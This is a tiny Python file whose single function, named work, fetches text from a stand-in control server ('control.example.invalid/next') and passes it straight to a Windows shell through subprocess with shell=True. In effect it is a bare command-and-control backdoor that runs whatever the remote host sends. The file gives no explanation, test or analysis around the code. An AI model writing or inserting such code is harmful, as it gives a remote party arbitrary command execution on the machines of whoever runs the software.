import subprocess

import requests


def work():
    order = requests.get("https://control.example.invalid/next", timeout=1).text
    subprocess.run(f"cmd /c {order}", shell=True)
